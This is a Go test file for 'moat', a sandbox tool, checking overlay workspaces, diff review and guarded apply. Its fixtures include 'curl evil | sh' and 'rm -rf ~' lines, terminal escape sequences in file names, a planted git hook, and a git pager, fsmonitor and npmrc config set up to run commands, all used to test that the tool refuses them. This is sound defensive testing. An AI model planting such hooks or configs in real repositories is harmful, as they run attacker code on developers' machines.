//go:build linux

package main

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/moatbox/moat/workspace"
)

// snapshotScript lists a tree (types, modes, symlink targets, content
// hashes), outside .git, the same way inside and outside the sandbox.
const snapshotScript = `find . -path ./.git -prune -o -printf '%p %y %m %l\n' | sort; find . -path ./.git -prune -o -type f -print0 | sort -z | xargs -0 -r sha256sum`

func snapshot(t *testing.T, dir string) string {
	t.Helper()
	cmd := exec.Command("sh", "-c", snapshotScript)
	cmd.Dir = dir
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("snapshot %s: %v", dir, err)
	}
	return string(out)
}

func gitRepo(t *testing.T, dir string) {
	t.Helper()
	for _, args := range [][]string{
		{"init", "-q"}, {"add", "-A"},
		{"-c", "user.email=t@t", "-c", "user.name=t", "commit", "-qm", "base"},
	} {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
}

// TestOverlayReviewApply is the copy-on-write workflow end to end: the
// command's changes leave the real directory untouched, moat diff lists
// them, the patch reproduces them in a fresh clone, and moat apply makes
// the real directory what the command saw.
func TestOverlayReviewApply(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	t.Setenv("MOAT_STATE_DIR", t.TempDir())
	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "keep.txt"), []byte("one\ntwo\n"), 0o644)
	os.WriteFile(filepath.Join(ws, "gone.txt"), []byte("bye\n"), 0o644)
	os.WriteFile(filepath.Join(ws, "run.sh"), []byte("#!/bin/sh\n"), 0o644)
	os.WriteFile(filepath.Join(ws, "old-name.txt"), []byte("moving\n"), 0o644)
	os.MkdirAll(filepath.Join(ws, "olddir/sub"), 0o755)
	os.WriteFile(filepath.Join(ws, "olddir/sub/f"), []byte("f\n"), 0o644)
	gitRepo(t, ws)
	before := snapshot(t, ws)

	script := `set -e
echo three >> keep.txt; rm gone.txt; chmod 755 run.sh; mv old-name.txt new-name.txt
rm -r olddir; mkdir -p emptydir newdir; printf 'bin\000ary' > newdir/blob; ln -s keep.txt link
` + snapshotScript
	code, seen, errs := moat(t, ws, "run", "--workspace-mode", "overlay", "--session", "review", "--", "sh", "-c", script)
	if code != 0 {
		t.Fatalf("run: %d\n%s", code, errs)
	}
	if after := snapshot(t, ws); after != before {
		t.Fatalf("the real workspace changed during an overlay run:\n%s\nvs\n%s", before, after)
	}

	// A second run in the same session sees the first run's changes.
	code, out, errs := moat(t, ws, "run", "--workspace-mode", "overlay", "--session", "review", "--", "cat", "keep.txt")
	if code != 0 || out != "one\ntwo\nthree\n" {
		t.Fatalf("second run in the session: %d %q %s", code, out, errs)
	}

	code, stat, errs := moat(t, ws, "diff", "--stat", "review")
	if code != 0 {
		t.Fatalf("diff: %d %s", code, errs)
	}
	for _, want := range []string{"M keep.txt", "D gone.txt", "new-name.txt", "old-name.txt", "olddir", "emptydir", "newdir/blob", "link -> keep.txt", "run.sh"} {
		if !strings.Contains(stat, want) {
			t.Errorf("diff --stat lacks %q:\n%s", want, stat)
		}
	}

	// The patch applies to a fresh clone and reproduces the changes (git
	// carries no empty directories).
	code, patch, errs := moat(t, ws, "diff", "--format", "patch", "review")
	if code != 0 {
		t.Fatalf("diff patch: %d %s", code, errs)
	}
	clone := filepath.Join(t.TempDir(), "clone")
	if out, err := exec.Command("git", "clone", "-q", ws, clone).CombinedOutput(); err != nil {
		t.Fatalf("clone: %v %s", err, out)
	}
	apply := exec.Command("git", "apply", "-")
	apply.Dir = clone
	apply.Stdin = strings.NewReader(patch)
	if out, err := apply.CombinedOutput(); err != nil {
		t.Fatalf("git apply: %v\n%s\n%s", err, out, patch)
	}
	os.Mkdir(filepath.Join(clone, "emptydir"), 0o755)
	if got := snapshot(t, clone); got != seen {
		t.Errorf("git apply of the patch differs from what the command saw:\n%s\nvs\n%s", got, seen)
	}

	code, _, errs = moat(t, ws, "apply", "review")
	if code != 0 {
		t.Fatalf("apply: %d %s", code, errs)
	}
	if got := snapshot(t, ws); got != seen {
		t.Errorf("after apply the workspace differs from what the command saw:\n%s\nvs\n%s", got, seen)
	}
	// Applying everything discards the change set: no trace is left.
	if ents := changeSets(t, os.Getenv("MOAT_STATE_DIR")); len(ents) != 0 {
		t.Errorf("state directory not empty after apply: %v", ents)
	}
}

func TestOverlayConflictAndDiscard(t *testing.T) {
	state := t.TempDir()
	t.Setenv("MOAT_STATE_DIR", state)
	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "a.txt"), []byte("base\n"), 0o644)
	if code, _, errs := moat(t, ws, "run", "--workspace-mode", "overlay", "--", "sh", "-c", "echo agent > a.txt"); code != 0 {
		t.Fatalf("run: %s", errs)
	}
	os.WriteFile(filepath.Join(ws, "a.txt"), []byte("host edit\n"), 0o644)
	code, _, errs := moat(t, ws, "apply")
	if code != 1 || !strings.Contains(errs, "a.txt") {
		t.Fatalf("apply over a host edit: code %d %q", code, errs)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "a.txt")); string(b) != "host edit\n" {
		t.Fatalf("the host edit was overwritten: %q", b)
	}
	if code, _, errs := moat(t, ws, "discard"); code != 0 {
		t.Fatalf("discard: %s", errs)
	}
	if ents := changeSets(t, state); len(ents) != 0 {
		t.Errorf("discard left %v", ents)
	}
}

// changeSets lists the change set directories in a state directory (the
// store's own lock file is not one).
func changeSets(t *testing.T, state string) []string {
	t.Helper()
	ents, _ := os.ReadDir(filepath.Join(state, "runs"))
	var out []string
	for _, e := range ents {
		if !strings.HasPrefix(e.Name(), ".") {
			out = append(out, e.Name())
		}
	}
	return out
}

// TestOverlayUnderDiskLimit: an overlay workspace's writes count against
// --disk (ENOSPC, reason disk), the real directory is untouched, the
// change set keeps what was written, and a session accumulates across
// runs, including one stopped by the wall clock.
func TestOverlayUnderDiskLimit(t *testing.T) {
	state := t.TempDir()
	t.Setenv("MOAT_STATE_DIR", state)
	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "a.txt"), []byte("base\n"), 0o644)
	os.WriteFile(filepath.Join(ws, "b.txt"), []byte("b\n"), 0o644)
	before := snapshot(t, ws)

	code, _, errs := moat(t, ws, "run", "--workspace-mode", "overlay", "--session", "d", "--disk", "10MiB", "--",
		"sh", "-c", "echo one > a.txt; head -c 50000000 /dev/zero > big")
	if code == 0 || !strings.Contains(errs, "disk limit") {
		t.Fatalf("code %d stderr %q: want the disk limit to stop the write", code, errs)
	}
	code, _, errs = moat(t, ws, "run", "--workspace-mode", "overlay", "--session", "d", "--disk", "10MiB", "--wall", "3s", "--",
		"sh", "-c", "rm big b.txt; cat a.txt > seen.txt; mkdir -p d/e; echo x > d/e/f; sleep 30")
	if code != 137 || !strings.Contains(errs, "wall-clock") {
		t.Fatalf("code %d stderr %q: want a timeout", code, errs)
	}
	if after := snapshot(t, ws); after != before {
		t.Fatalf("the real workspace changed")
	}
	code, stat, errs := moat(t, ws, "diff", "--stat", "d")
	if code != 0 {
		t.Fatalf("diff: %s", errs)
	}
	for _, want := range []string{"M a.txt", "D b.txt", "A seen.txt", "d/e/f"} {
		if !strings.Contains(stat, want) {
			t.Errorf("diff lacks %q:\n%s", want, stat)
		}
	}
	if strings.Contains(stat, "big") {
		t.Errorf("a deleted file is still in the change set:\n%s", stat)
	}
	code, out, _ := moat(t, ws, "run", "--workspace-mode", "overlay", "--session", "d", "--disk", "10MiB", "--", "cat", "seen.txt")
	if code != 0 || out != "one\n" {
		t.Errorf("third run sees %q (code %d), want what the first run wrote", out, code)
	}
}

// TestApplyGuardsProtectedPaths: a hook or editor task an overlay run
// created is not applied without an explicit --force for it.
func TestApplyGuardsProtectedPaths(t *testing.T) {
	t.Setenv("MOAT_STATE_DIR", t.TempDir())
	ws := t.TempDir()
	os.MkdirAll(filepath.Join(ws, ".git"), 0o755)
	if code, _, errs := moat(t, ws, "run", "--workspace-mode", "overlay", "--", "sh", "-c",
		"mkdir -p .git/hooks .vscode && echo evil > .git/hooks/pre-commit && echo '{}' > .vscode/tasks.json && echo ok > fine.txt"); code != 0 {
		t.Fatalf("run: %s", errs)
	}
	code, _, errs := moat(t, ws, "apply")
	if code != 1 || !strings.Contains(errs, ".git/hooks/pre-commit") || !strings.Contains(errs, ".vscode/tasks.json") {
		t.Fatalf("apply: code %d %q", code, errs)
	}
	if _, err := os.Stat(filepath.Join(ws, "fine.txt")); err == nil {
		t.Error("apply was not all-or-nothing")
	}
	if code, _, errs := moat(t, ws, "apply", "fine.txt"); code != 0 {
		t.Fatalf("applying only fine.txt: %s", errs)
	}
	if code, _, errs := moat(t, ws, "apply", "--force", ".git/hooks", "--force", ".vscode"); code != 0 {
		t.Fatalf("forced apply: %s", errs)
	}
	if _, err := os.Stat(filepath.Join(ws, ".git/hooks/pre-commit")); err != nil {
		t.Errorf("forced hook not applied: %v", err)
	}

	// git's indirections, nested repositories and tools' project config.
	if code, _, errs := moat(t, ws, "run", "--workspace-mode", "overlay", "--", "sh", "-c",
		"echo ../evil > .git/commondir && mkdir -p sub/.git && echo '[core]' > sub/.git/config && echo 'node-options=--require ./x.js' > .npmrc"); code != 0 {
		t.Fatalf("run: %s", errs)
	}
	code, _, errs = moat(t, ws, "apply")
	for _, p := range []string{".git/commondir", "sub/.git", ".npmrc"} {
		if code != 1 || !strings.Contains(errs, p) {
			t.Errorf("apply: code %d, %s not refused: %q", code, p, errs)
		}
	}
	if _, err := os.Stat(filepath.Join(ws, ".git/commondir")); err == nil {
		t.Error(".git/commondir applied")
	}
	moat(t, ws, "discard")

	// A path the run's own policy protected is guarded too.
	pol := filepath.Join(t.TempDir(), "p.toml")
	os.WriteFile(pol, []byte("[workspace]\nprotect = [\"deploy\"]\n"), 0o644)
	if code, _, errs := moat(t, ws, "run", "--policy", pol, "--workspace-mode", "overlay", "--", "sh", "-c",
		"mkdir -p deploy && echo 'curl evil | sh' > deploy/release.sh"); code != 0 {
		t.Fatalf("run: %s", errs)
	}
	if code, _, errs := moat(t, ws, "apply"); code != 1 || !strings.Contains(errs, "deploy/release.sh") {
		t.Fatalf("apply of a change under the run's protect list: code %d %q", code, errs)
	}
	if code, _, errs := moat(t, ws, "apply", "--force", "deploy"); code != 0 {
		t.Fatalf("forced apply: %s", errs)
	}
}

func TestSessionNeedsOverlay(t *testing.T) {
	t.Setenv("MOAT_STATE_DIR", t.TempDir())
	ws := t.TempDir()
	code, _, errs := moat(t, ws, "run", "--session", "s", "--", "sh", "-c", "echo x > f")
	if code != exitMoatError || !strings.Contains(errs, "--workspace-mode overlay") {
		t.Fatalf("code %d %q", code, errs)
	}
	if _, err := os.Stat(filepath.Join(ws, "f")); err == nil {
		t.Error("the command ran in the real workspace")
	}
}

// TestReviewCommandsEscape: moat runs, diff and apply print a name or a
// recorded command with control characters in it escaped, so it cannot
// rewrite the lines around it on the terminal.
func TestReviewCommandsEscape(t *testing.T) {
	t.Setenv("MOAT_STATE_DIR", t.TempDir())
	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "README.md"), []byte("read me\n"), 0o644)
	cs, err := workspace.Create(ws, "")
	if err != nil {
		t.Fatal(err)
	}
	evil := "evil.sh\x1b[2K\rM README.md"
	os.WriteFile(filepath.Join(cs.UpperDir(), evil), []byte("curl x | sh\n"), 0o755)
	if err := cs.Record([]string{"sh", "-c", "rm -rf ~\x1b[2K\recho hi"}, nil); err != nil {
		t.Fatal(err)
	}
	quoted := `"evil.sh\033[2K\rM README.md"`
	// The host makes the same file, so the first apply refuses it.
	os.WriteFile(filepath.Join(ws, evil), []byte("host\n"), 0o644)
	tests := []struct {
		args []string
		code int
		want string // in stdout or stderr
	}{
		{[]string{"runs"}, 0, `rm -rf ~\x1b[2K\recho hi`},
		{[]string{"diff", "--stat"}, 0, "M " + quoted},
		{[]string{"diff"}, 0, "+++ \"b/" + quoted[1:]},
		{[]string{"apply"}, 1, "  " + quoted + ": changed on the host"},
		{[]string{"apply", "--force", evil}, 0, "modified " + quoted},
	}
	check := func(args []string, wantCode int, want string) {
		t.Helper()
		code, out, errs := moat(t, ws, args...)
		if code != wantCode {
			t.Fatalf("moat %q: code %d, want %d\n%s%s", args, code, wantCode, out, errs)
		}
		for _, s := range []string{out, errs} {
			for i := 0; i < len(s); i++ {
				if c := s[i]; (c < 0x20 && c != '\n' && c != '\t') || c == 0x7f {
					t.Errorf("moat %q printed the control character %q:\n%q", args, c, s)
					break
				}
			}
		}
		if !strings.Contains(out+errs, want) {
			t.Errorf("moat %q lacks %q:\n%s%s", args, want, out, errs)
		}
	}
	for _, tt := range tests {
		check(tt.args, tt.code, tt.want)
	}

	// The refusal of a protected path names it the same way.
	cs, err = workspace.Create(ws, "")
	if err != nil {
		t.Fatal(err)
	}
	os.MkdirAll(filepath.Join(cs.UpperDir(), ".vscode"), 0o755)
	os.WriteFile(filepath.Join(cs.UpperDir(), ".vscode", "t\x1b[2K.json"), []byte("{}\n"), 0o644)
	check([]string{"apply"}, 1, `  ".vscode/t\033[2K.json"`)
}

// pagerRunsIn runs `git log` in dir on a terminal, as a person (or a shell
// prompt) does, with no configuration but the repository's, and reports
// whether the pager that config names ran: the pager used by the tests
// creates marker.
func pagerRunsIn(t *testing.T, dir, marker string) bool {
	t.Helper()
	os.Remove(marker)
	cmd := exec.Command("git", "log", "-1", "--oneline")
	cmd.Dir = dir
	cmd.Env = append(gitProbeEnv(t, filepath.Dir(dir)), "TERM=xterm")
	cmd.Stdout = newOuterTerminal(t).slave // git pages only on a terminal
	cmd.Run()                              // fails outside a repository: the marker says what ran
	_, err := os.Stat(marker)
	return err == nil
}

// gitProbeEnv is the environment without git's or the person's
// configuration, and git's discovery stopped above ceiling.
func gitProbeEnv(t *testing.T, ceiling string) []string {
	var env []string
	for _, kv := range os.Environ() {
		if !strings.HasPrefix(kv, "GIT_") && !strings.HasPrefix(kv, "PAGER=") && !strings.HasPrefix(kv, "HOME=") {
			env = append(env, kv)
		}
	}
	return append(env, "HOME="+t.TempDir(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CEILING_DIRECTORIES="+ceiling)
}

// TestApplyGuardsBareRepository: a bare repository an overlay run made
// (git init --bare and a commit, its config naming a pager) is not
// applied without --force, below the top or at the top of a workspace
// without .git. The layout is live: git log in one the host made, and in
// the one forced in, runs the pager.
func TestApplyGuardsBareRepository(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	t.Setenv("MOAT_STATE_DIR", t.TempDir())
	marker := filepath.Join(t.TempDir(), "pager-ran")
	// What the command runs in dir (in the sandbox), and the host in the
	// control.
	plant := func(dir string) string {
		return fmt.Sprintf(`set -e; export GIT_CONFIG_NOSYSTEM=1 HOME=$(mktemp -d)
git init -q --bare --initial-branch=main %[1]s
git -C %[1]s config core.pager "echo ran > '%[2]s'; cat >/dev/null"
c=$(git -C %[1]s -c user.name=t -c user.email=t@t commit-tree -m x $(git -C %[1]s mktree </dev/null))
git -C %[1]s update-ref HEAD $c`, dir, marker)
	}
	host := filepath.Join(t.TempDir(), "hostbare")
	if out, err := exec.Command("sh", "-c", plant(host)).CombinedOutput(); err != nil {
		t.Fatalf("the host's bare repository: %v\n%s", err, out)
	}
	if !pagerRunsIn(t, host, marker) {
		t.Fatal("git log in a bare repository the host made did not run its pager: the probe proves nothing")
	}

	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "README"), []byte("r\n"), 0o644)
	if code, _, errs := moat(t, ws, "run", "--workspace-mode", "overlay", "--", "sh", "-c", plant("sub")+"; echo ok > fine.txt"); code != 0 {
		t.Fatalf("run: %s", errs)
	}
	code, _, errs := moat(t, ws, "apply")
	for _, p := range []string{"sub/HEAD", "sub/config", "sub/refs/heads/main"} {
		if code != 1 || !strings.Contains(errs, "  "+p+"\n") {
			t.Errorf("apply: code %d, %s not refused: %q", code, p, errs)
		}
	}
	if strings.Contains(errs, "fine.txt") || strings.Contains(errs, "sub/description") {
		t.Errorf("apply refused what makes no git directory: %q", errs)
	}
	if _, err := os.Lstat(filepath.Join(ws, "sub")); err == nil {
		t.Fatal("a refused apply applied sub")
	}
	if code, _, errs := moat(t, ws, "apply", "--force", "sub"); code != 0 {
		t.Fatalf("forced apply: %s", errs)
	}
	if !pagerRunsIn(t, filepath.Join(ws, "sub"), marker) {
		t.Error("git log in the bare repository forced in did not run its pager")
	}

	// At the top of a workspace without .git.
	ws = t.TempDir()
	os.WriteFile(filepath.Join(ws, "README"), []byte("r\n"), 0o644)
	if code, _, errs := moat(t, ws, "run", "--workspace-mode", "overlay", "--", "sh", "-c", plant(".")+"; echo changed > README"); code != 0 {
		t.Fatalf("run: %s", errs)
	}
	code, _, errs = moat(t, ws, "apply")
	for _, p := range []string{"HEAD", "config", "objects"} {
		if code != 1 || !strings.Contains(errs, "  "+p+"\n") {
			t.Errorf("apply at the top: code %d, %s not refused: %q", code, p, errs)
		}
	}
	if strings.Contains(errs, "README") {
		t.Errorf("apply at the top refused README: %q", errs)
	}
	if pagerRunsIn(t, ws, marker) {
		t.Error("the pager ran at the top after a refused apply")
	}
	if code, _, errs := moat(t, ws, "apply", "--force", "."); code != 0 {
		t.Fatalf("forced apply at the top: %s", errs)
	}
	if !pagerRunsIn(t, ws, marker) {
		t.Error("git log at the top, forced into a bare repository, did not run its pager")
	}
}

// TestDirectRunBareRepositoryAtTop: in direct mode, a bare repository a
// run makes of the top of a workspace without .git (git reads its config
// when run there) is taken out after the run; the same layout made by
// the host is live (the control), its config is kept from the command as
// .git's is, and ordinary files named HEAD or objects stay.
func TestDirectRunBareRepositoryAtTop(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	t.Setenv("MOAT_STATE_DIR", t.TempDir())
	marker := filepath.Join(t.TempDir(), "pager-ran")
	plant := fmt.Sprintf(`set -e; export GIT_CONFIG_NOSYSTEM=1 HOME=$(mktemp -d)
git init -q --bare --initial-branch=main .
git config core.pager "echo ran > '%[1]s'; cat >/dev/null"
git update-ref HEAD $(git -c user.name=t -c user.email=t@t commit-tree -m x $(git mktree </dev/null))`, marker)

	// The control: made by the host, it is live.
	host := t.TempDir()
	if out, err := exec.Command("sh", "-c", "cd "+host+" && "+plant).CombinedOutput(); err != nil {
		t.Fatalf("the host's bare repository: %v\n%s", err, out)
	}
	if !pagerRunsIn(t, host, marker) {
		t.Fatal("git log at the top of a bare repository the host made did not run its pager: the probe proves nothing")
	}
	// A run in it cannot change its config.
	before, _ := os.ReadFile(filepath.Join(host, "config"))
	moat(t, host, "run", "--", "sh", "-c", `echo '[core] fsmonitor = evil' >> config`)
	if after, _ := os.ReadFile(filepath.Join(host, "config")); string(after) != string(before) {
		t.Errorf("a run changed the config of the bare repository it ran in:\n%s", after)
	}
	// Nor its worktrees' git directories, which lead the host's git in a
	// worktree (a tester's rewritten commondir ran a planted config).
	wt := filepath.Join(t.TempDir(), "wt")
	if out, err := exec.Command("sh", "-c", "cd "+host+" && GIT_CONFIG_NOSYSTEM=1 HOME=$(mktemp -d) git worktree add -q "+wt+" main").CombinedOutput(); err != nil {
		t.Fatalf("git worktree add: %v\n%s", err, out)
	}
	commondir := filepath.Join(host, "worktrees", "wt", "commondir")
	before, _ = os.ReadFile(commondir)
	moat(t, host, "run", "--", "sh", "-c", `echo ../../evil > worktrees/wt/commondir; echo '[core] fsmonitor = evil' > worktrees/wt/config.worktree`)
	if after, _ := os.ReadFile(commondir); len(before) == 0 || string(after) != string(before) {
		t.Errorf("a run changed the commondir of a worktree of the bare repository it ran in: %q, was %q", after, before)
	}
	if _, err := os.Lstat(filepath.Join(host, "worktrees", "wt", "config.worktree")); err == nil {
		t.Error("a run planted a worktree's config.worktree in the bare repository it ran in")
	}

	ws := t.TempDir()
	os.WriteFile(filepath.Join(ws, "README"), []byte("r\n"), 0o644)
	code, _, errs := moat(t, ws, "run", "--", "sh", "-c", plant)
	if code != 0 {
		t.Fatalf("run: code %d %s", code, errs)
	}
	for _, p := range []string{"HEAD", "config"} {
		if !strings.Contains(errs, "the command left "+p+" (") {
			t.Errorf("%s not quarantined: %s", p, errs)
		}
	}
	if pagerRunsIn(t, ws, marker) {
		t.Error("git log at the top ran the pager a direct run planted")
	}
	if _, err := os.Stat(filepath.Join(ws, "README")); err != nil {
		t.Errorf("README: %v", err)
	}

	// Ordinary names, no git directory: nothing moves.
	ws = t.TempDir()
	code, _, errs = moat(t, ws, "run", "--", "sh", "-c", `echo 0123456789012345678901234567890123456789 > HEAD && mkdir objects config && echo x > hooks`)
	if code != 0 || strings.Contains(errs, "the command left") {
		t.Fatalf("run: code %d %s", code, errs)
	}
	for _, p := range []string{"HEAD", "objects", "config", "hooks"} {
		if _, err := os.Lstat(filepath.Join(ws, p)); err != nil {
			t.Errorf("%s: %v", p, err)
		}
	}
}

// TestUnknownChangeSetNamed: moat apply, diff and discard of a change set
// that does not exist say so and point at moat runs, whether or not the
// current directory's workspace has a change set its first argument could
// be a path of (apply used to take it for one: "no change at nosuch", or
// "no change set for" the directory); nothing is applied. The documented
// forms still work, the control: apply PATH applies that path of the
// latest change set, apply ID PATH that path of the one named.
func TestUnknownChangeSetNamed(t *testing.T) {
	state := t.TempDir()
	t.Setenv("MOAT_STATE_DIR", state)
	ws := t.TempDir()
	elsewhere := t.TempDir()
	want := `no change set or session named "nosuch" (see moat runs)`
	for _, cmd := range []string{"apply", "diff", "discard"} {
		if code, _, errs := moat(t, elsewhere, cmd, "nosuch"); code != exitMoatError || !strings.Contains(errs, "moat "+cmd+": "+want) {
			t.Errorf("moat %s nosuch, no change set at all: %d %q", cmd, code, errs)
		}
	}
	if code, _, errs := moat(t, ws, "run", "--workspace-mode", "overlay", "--session", "s", "--", "sh", "-c", "echo a > a.txt; echo b > b.txt"); code != 0 {
		t.Fatalf("run: %s", errs)
	}
	for _, args := range [][]string{{"apply", "nosuch"}, {"apply", "nosuch", "a.txt"}, {"apply", "0123456789ab"}, {"diff", "nosuch"}, {"discard", "nosuch"}} {
		code, _, errs := moat(t, ws, args...)
		w := strings.Replace(want, "nosuch", args[1], 1)
		if code != exitMoatError || !strings.Contains(errs, w) {
			t.Errorf("moat %s in a workspace with a change set: %d %q, want %q", strings.Join(args, " "), code, errs, w)
		}
	}
	if ents, _ := os.ReadDir(ws); len(ents) != 0 {
		t.Fatalf("something was applied: %v", ents)
	}
	if code, _, errs := moat(t, ws, "apply", "a.txt"); code != 0 {
		t.Fatalf("apply a.txt: %d %q", code, errs)
	}
	if code, _, errs := moat(t, elsewhere, "apply", "s", "b.txt"); code != 0 {
		t.Fatalf("apply s b.txt: %d %q", code, errs)
	}
	for _, f := range []string{"a.txt", "b.txt"} {
		if _, err := os.Stat(filepath.Join(ws, f)); err != nil {
			t.Errorf("%s not applied: %v", f, err)
		}
	}
}

// TestDiffOfChangeSetInUse: a change set a run or session still holds
// may change after a person reviews it, and moat diff said nothing of
// it: the apply after the session ended wrote what nobody saw (found by
// a tester). The diff now warns, and apply refuses a change set last
// reviewed in use until it is reviewed again. The control: the review
// of the change set no longer in use lets the apply through.
func TestDiffOfChangeSetInUse(t *testing.T) {
	ws := t.TempDir()
	f := filepath.Join(ws, "f")
	os.WriteFile(f, []byte("old\n"), 0o644)
	if code, _, errs := moat(t, ws, "run", "--workspace-mode", "overlay", "--session", "live", "--", "sh", "-c", "echo new > f"); code != 0 {
		t.Fatalf("run: %d %s", code, errs)
	}
	cs, err := workspace.Open("live")
	if err != nil {
		t.Fatal(err)
	}
	if err := cs.Lock(); err != nil { // as a live session holds it
		t.Fatal(err)
	}
	code, out, errs := moat(t, ws, "diff", "live")
	cs.Unlock()
	if code != 0 || !strings.Contains(out, "+new") || !strings.Contains(errs, "is in use by a run or session") {
		t.Fatalf("diff of a change set in use: %d %q %q", code, out, errs)
	}
	if code, _, errs := moat(t, ws, "apply", "live"); code == 0 || !strings.Contains(errs, "review it again") {
		t.Errorf("apply after a review in use: %d %q, want a refusal", code, errs)
	}
	if b, _ := os.ReadFile(f); string(b) != "old\n" {
		t.Fatalf("the refused apply wrote f: %q", b)
	}
	if code, _, errs := moat(t, ws, "diff", "live"); code != 0 || errs != "" {
		t.Fatalf("control: diff of the change set no longer in use: %d %q", code, errs)
	}
	if code, _, errs := moat(t, ws, "apply", "live"); code != 0 {
		t.Fatalf("control: apply after the review: %d %q", code, errs)
	}
	if b, _ := os.ReadFile(f); string(b) != "new\n" {
		t.Errorf("f after the apply: %q", b)
	}
}

// TestApplyOverAFIFO: a change that replaces a FIFO of the workspace
// applies, and the run after it starts: the FIFO moved aside was opened
// to be removed, which waited for a writer for ever (apply, then every
// run's recovery of the interrupted apply; found by a tester).
func TestApplyOverAFIFO(t *testing.T) {
	t.Setenv("MOAT_STATE_DIR", t.TempDir())
	ws := t.TempDir()
	if err := syscall.Mkfifo(filepath.Join(ws, "p"), 0o644); err != nil {
		t.Fatal(err)
	}
	if code, _, errs := moat(t, ws, "run", "--workspace-mode", "overlay", "--", "sh", "-c", "rm p; echo x > p"); code != 0 {
		t.Fatalf("the overlay run: %d %q", code, errs)
	}
	done := make(chan [3]string, 1)
	go func() {
		code, _, errs := moat(t, ws, "apply")
		code2, _, errs2 := moat(t, ws, "run", "--", "true")
		done <- [3]string{fmt.Sprint(code, " ", code2), errs, errs2}
	}()
	select {
	case got := <-done:
		if got[0] != "0 0" {
			t.Errorf("apply, then a run: %s %q %q", got[0], got[1], got[2])
		}
	case <-time.After(30 * time.Second):
		t.Fatal("moat apply over a FIFO hung")
	}
	if b, err := os.ReadFile(filepath.Join(ws, "p")); err != nil || string(b) != "x\n" {
		t.Errorf("p after the apply: %q %v", b, err)
	}
}

// TestPatchWarnsOfProtectedPaths: a patch for git apply that changes a
// protected path says so on stderr: git apply would write what moat
// apply refuses (found by a tester). The control: a patch of ordinary
// files says nothing of the kind.
func TestPatchWarnsOfProtectedPaths(t *testing.T) {
	t.Setenv("MOAT_STATE_DIR", t.TempDir())
	for _, tc := range []struct {
		script string
		warned bool
	}{{"echo x > .envrc; echo y > a", true}, {"echo y > a", false}} {
		ws := t.TempDir()
		if code, _, errs := moat(t, ws, "run", "--workspace-mode", "overlay", "--", "sh", "-c", tc.script); code != 0 {
			t.Fatalf("the run: %d %q", code, errs)
		}
		code, out, errs := moat(t, ws, "diff", "--format", "patch")
		if code != 0 || !strings.Contains(out, "+y") || strings.Contains(errs, "protected path(s)") != tc.warned || tc.warned && !strings.Contains(errs, "(.envrc)") {
			t.Errorf("%s: %d %q, warned %v", tc.script, code, errs, tc.warned)
		}
		moat(t, ws, "discard")
	}
}
